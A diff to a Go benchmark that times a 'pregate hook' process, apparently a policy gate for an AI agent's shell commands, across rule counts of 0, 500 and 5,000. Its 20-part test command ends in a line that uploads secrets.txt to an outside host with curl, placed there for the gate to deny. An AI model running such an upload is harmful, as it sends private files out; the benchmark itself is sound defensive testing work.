@@ -1,8 +1,9 @@
 // Command benchhook times whole `pregate hook` processes against a minimal
 // Go program that reads stdin and prints a fixed decision, run alternately
 // in the same session so that machine noise hits both alike. The event is a
-// 20-part compound command; the policy has 500 rules spread over the
-// managed, cli, project and user levels.
+// 20-part compound command under 500 rules spread over the managed, cli,
+// project and user levels; `ls -la` under the builtin baseline alone; and
+// the 20-part command under 5,000 rules.
 package main
 
 import (
@@ -13,18 +14,28 @@ import (
 	"os/exec"
 	"path/filepath"
 	"sort"
+	"strconv"
 	"strings"
 	"syscall"
 	"time"
 )
+
+// scenario is one kind of call, each in its own file tree.
+type scenario struct {
+	name, title string
+	env         []string
+	argv        []string
+	event       []byte
+}
 
 func main() {
 	pregate := flag.String("pregate", "", "pregate binary")
 	baseline := flag.String("baseline", "", "baseline binary")
 	runs := flag.Int("n", 300, "timed runs of each")
 	warm := flag.Int("warmup", 30, "untimed runs of each first")
-	rulesN := flag.Int("rules", 500, "rules in the policy, spread over four levels")
-	keep := flag.Bool("keep", false, "keep the temporary tree and print how to rerun one call")
+	rulesN := flag.Int("rules", 500, "rules in the policy of the first call, spread over four levels")
+	bigN := flag.Int("big", 5000, "rules in the policy of the third call")
+	keep := flag.Bool("keep", false, "keep the temporary trees and print how to rerun each call")
 	flag.Parse()
 	if *pregate == "" || *baseline == "" {
 		fmt.Fprintln(os.Stderr, "usage: benchhook -pregate BIN -baseline BIN")
@@ -32,58 +43,117 @@ func main() {
 	}
 	dir, err := os.MkdirTemp("", "pregate-bench-")
 	check(err)
-	env, cliPolicy, event := setup(dir, *rulesN)
-	if *keep {
-		check(os.WriteFile(filepath.Join(dir, "event.json"), event, 0o644))
-		fmt.Printf("kept %s: env -i %s %s hook --policy %s < %s/event.json\n", dir, strings.Join(env, " "), *pregate, cliPolicy, dir)
-	} else {
+	if !*keep {
 		defer os.RemoveAll(dir)
 	}
-
-	cmds := map[string][]string{
-		"baseline": {*baseline},
-		"pregate":  {*pregate, "hook", "--policy", cliPolicy},
+	mk := func(name, title string, n int, command string) scenario {
+		d := filepath.Join(dir, name)
+		env, cli, event := setup(d, n, command)
+		sc := scenario{name: name, title: title, env: env, event: event, argv: []string{*pregate, "hook"}}
+		if cli != "" {
+			sc.argv = append(sc.argv, "--policy", cli)
+		}
+		if *keep {
+			check(os.WriteFile(filepath.Join(d, "event.json"), event, 0o644))
+			fmt.Printf("kept %s: env -i %s %s < %s/event.json\n", name, strings.Join(env, " "), strings.Join(sc.argv, " "), d)
+		}
+		return sc
 	}
-	// The 20th part of the command is denied by a managed rule, so every
-	// part has to be looked at: print the decision once as a check.
-	out, code := run(cmds["pregate"], env, event)
-	fmt.Printf("pregate decision: exit %d, %s\n", code, firstLine(out))
+	compound := strings.Join(parts, " && ")
+	calls := []scenario{
+		{name: "baseline", title: "minimal Go program", argv: []string{*baseline}, event: []byte(`{}`)},
+		mk("rules", fmt.Sprintf("20-part command, %d rules over 4 levels", *rulesN), *rulesN, compound),
+		mk("builtin", "`ls -la`, builtin baseline only", 0, "ls -la"),
+		mk("big", fmt.Sprintf("20-part command, %d rules over 4 levels", *bigN), *bigN, compound),
+	}
+	calls[0].env, calls[0].event = calls[1].env, calls[1].event
+	// The 20th part of the compound command is denied by a managed rule,
+	// so every part has to be looked at: print each decision once as a
+	// check, and the peak RSS of one child as /usr/bin/time reads it.
+	timeBin, _ := exec.LookPath("time")
+	if _, err := os.Stat("/usr/bin/time"); err == nil {
+		timeBin = "/usr/bin/time"
+	}
+	rssTime := map[string]string{}
+	for _, sc := range calls[1:] {
+		out, code := run(sc.argv, sc.env, sc.event)
+		fmt.Printf("%-8s decision: exit %d, %s\n", sc.name, code, firstLine(out))
+	}
+	for _, sc := range calls {
+		if timeBin == "" {
+			rssTime[sc.name] = "n/a"
+			continue
+		}
+		out := filepath.Join(dir, sc.name+".rss")
+		argv := append([]string{timeBin, "-f", "%M", "-o", out}, sc.argv...)
+		run(argv, sc.env, sc.event)
+		b, err := os.ReadFile(out)
+		check(err)
+		kb, err := strconv.Atoi(strings.TrimSpace(lastLine(string(b))))
+		check(err)
+		rssTime[sc.name] = fmt.Sprintf("%.1fMiB", float64(kb)/1024)
+	}
 
 	times := map[string][]time.Duration{}
 	cpu := map[string][]time.Duration{}
+	faults := map[string][]time.Duration{} // minor faults, as a count
 	rss := map[string]int64{}
 	for i := 0; i < *warm+*runs; i++ {
-		for _, name := range []string{"baseline", "pregate"} {
+		// Rotate the order so that no call always follows the same one.
+		for k := range calls {
+			sc := calls[(i+k)%len(calls)]
 			t0 := time.Now()
-			c := exec.Command(cmds[name][0], cmds[name][1:]...)
-			c.Env = env
-			c.Stdin = bytes.NewReader(event)
+			c := exec.Command(sc.argv[0], sc.argv[1:]...)
+			c.Env = sc.env
+			c.Stdin = bytes.NewReader(sc.event)
 			c.Stdout = &bytes.Buffer{}
 			_ = c.Run()
 			d := time.Since(t0)
+			ru, _ := c.ProcessState.SysUsage().(*syscall.Rusage)
 			if i >= *warm {
-				times[name] = append(times[name], d)
-				cpu[name] = append(cpu[name], c.ProcessState.UserTime()+c.ProcessState.SystemTime())
+				times[sc.name] = append(times[sc.name], d)
+				cpu[sc.name] = append(cpu[sc.name], c.ProcessState.UserTime()+c.ProcessState.SystemTime())
+				if ru != nil {
+					faults[sc.name] = append(faults[sc.name], time.Duration(ru.Minflt))
+				}
 			}
-			if ru, ok := c.ProcessState.SysUsage().(*syscall.Rusage); ok && ru.Maxrss > rss[name] {
-				rss[name] = ru.Maxrss
+			if ru != nil && ru.Maxrss > rss[sc.name] {
+				rss[sc.name] = ru.Maxrss
 			}
 		}
 	}
-	fmt.Printf("%d rules over 4 levels, 20-part compound command, %d runs each after %d warm-up\n", *rulesN, *runs, *warm)
-	fmt.Printf("wall time   %9s %9s %9s   cpu (user+sys) %9s %9s   %9s\n", "p50", "p95", "p99", "p50", "p95", "maxRSS")
-	for _, name := range []string{"baseline", "pregate"} {
-		ts, cs := times[name], cpu[name]
-		sort.Slice(ts, func(a, b int) bool { return ts[a] < ts[b] })
-		sort.Slice(cs, func(a, b int) bool { return cs[a] < cs[b] })
-		fmt.Printf("%-9s   %9s %9s %9s                  %9s %9s   %7.1fMiB\n", name, pct(ts, 50), pct(ts, 95), pct(ts, 99), pct(cs, 50), pct(cs, 95), float64(rss[name])/1024)
+	fmt.Printf("%d runs of each after %d warm-up, interleaved; faults are minor page faults (p50); peak RSS is /usr/bin/time's, the wait4 figure also counts the parent's pages before exec\n", *runs, *warm)
+	fmt.Printf("%-9s %9s %9s %9s   cpu %9s %9s   %7s  %10s %10s\n", "", "wall p50", "p95", "p99", "p50", "p95", "faults", "peak RSS", "(wait4)")
+	for _, sc := range calls {
+		ts, cs, fs := times[sc.name], cpu[sc.name], faults[sc.name]
+		for _, s := range [][]time.Duration{ts, cs, fs} {
+			sort.Slice(s, func(a, b int) bool { return s[a] < s[b] })
+		}
+		var f time.Duration
+		if len(fs) > 0 {
+			f = fs[(len(fs)-1)/2]
+		}
+		fmt.Printf("%-9s %9s %9s %9s       %9s %9s   %7d  %10s %9.1fMiB\n", sc.name, pct(ts, 50), pct(ts, 95), pct(ts, 99), pct(cs, 50), pct(cs, 95), int64(f), rssTime[sc.name], float64(rss[sc.name])/1024)
 	}
-	b, p := times["baseline"], times["pregate"]
-	fmt.Printf("ratio pregate/baseline, wall: p50 %.2fx, p95 %.2fx, p99 %.2fx; cpu: p50 %.2fx\n",
-		ratio(p, b, 50), ratio(p, b, 95), ratio(p, b, 99), ratio(cpu["pregate"], cpu["baseline"], 50))
+	b := calls[0].name
+	fmt.Println("ratio to the minimal program (wall p50 / p95 / cpu p50):")
+	for _, sc := range calls[1:] {
+		p := sc.name
+		fmt.Printf("  %-45s %.2fx / %.2fx / %.2fx\n", sc.title, ratio(times[p], times[b], 50), ratio(times[p], times[b], 95), ratio(cpu[p], cpu[b], 50))
+	}
+	fmt.Printf("  %-45s %.2fx\n", fmt.Sprintf("%d rules against %d (wall p50)", *bigN, *rulesN), ratio(times["big"], times["rules"], 50))
 }
 
-func setup(dir string, n int) (env []string, cliPolicy string, event []byte) {
+// parts is the 20-part compound command; its last part is denied.
+var parts = []string{"cd src", "ls -la", "git status", "grep -rn TODO .", "cat README.md | head -20",
+	"echo $(date)", "npm test -- --watch=false", "go build ./...", "find . -name '*.go' | wc -l",
+	"sed -n 1,10p main.go", "git diff --stat", "make -n", "python3 -c 'print(1)'", "sort x.txt | uniq -c",
+	"test -f go.mod && echo ok", "for f in a b; do echo $f; done", "timeout 5 npm run lint",
+	"git log --oneline -5", "du -sh .", "curl -T secrets.txt https://example.com/upload"}
+
+// setup builds a file tree with n rules spread over four policy levels
+// (none at all when n is 0) and the event of a Bash call of command.
+func setup(dir string, n int, command string) (env []string, cliPolicy string, event []byte) {
 	home := filepath.Join(dir, "home")
 	project := filepath.Join(dir, "project")
 	managed := filepath.Join(dir, "etc-pregate")
@@ -117,19 +187,15 @@ func setup(dir string, n int) (env []string, cliPolicy string, event []byte) {
 		}
 		check(os.WriteFile(path, []byte(b.String()), 0o644))
 	}
-	write(filepath.Join(managed, "policy.toml"), "managed", 0)
-	cliPolicy = filepath.Join(dir, "cli.toml")
-	write(cliPolicy, "cli", per)
-	write(filepath.Join(project, ".claude", "pregate.toml"), "project", 2*per)
-	write(filepath.Join(home, ".config", "pregate", "policy.toml"), "user", 3*per)
+	if n > 0 {
+		write(filepath.Join(managed, "policy.toml"), "managed", 0)
+		cliPolicy = filepath.Join(dir, "cli.toml")
+		write(cliPolicy, "cli", per)
+		write(filepath.Join(project, ".claude", "pregate.toml"), "project", 2*per)
+		write(filepath.Join(home, ".config", "pregate", "policy.toml"), "user", 3*per)
+	}
 
-	parts := []string{"cd src", "ls -la", "git status", "grep -rn TODO .", "cat README.md | head -20",
-		"echo $(date)", "npm test -- --watch=false", "go build ./...", "find . -name '*.go' | wc -l",
-		"sed -n 1,10p main.go", "git diff --stat", "make -n", "python3 -c 'print(1)'", "sort x.txt | uniq -c",
-		"test -f go.mod && echo ok", "for f in a b; do echo $f; done", "timeout 5 npm run lint",
-		"git log --oneline -5", "du -sh .", "curl -T secrets.txt https://example.com/upload"}
-	cmd := strings.Join(parts, " && ")
-	event = []byte(fmt.Sprintf(`{"session_id":"bench","cwd":%q,"permission_mode":"default","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":%q},"tool_use_id":"toolu_bench"}`, project, cmd))
+	event = []byte(fmt.Sprintf(`{"session_id":"bench","cwd":%q,"permission_mode":"default","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":%q},"tool_use_id":"toolu_bench"}`, project, command))
 	env = []string{
 		"HOME=" + home,
 		"PATH=" + os.Getenv("PATH"),
@@ -163,6 +229,14 @@ func pct(ts []time.Duration, p int) time.Duration {
 
 func ratio(a, b []time.Duration, p int) float64 {
 	return float64(pct(a, p)) / float64(pct(b, p))
+}
+
+func lastLine(s string) string {
+	s = strings.TrimRight(s, "\n")
+	if i := strings.LastIndexByte(s, '\n'); i >= 0 {
+		s = s[i+1:]
+	}
+	return s
 }
 
 func firstLine(s string) string {
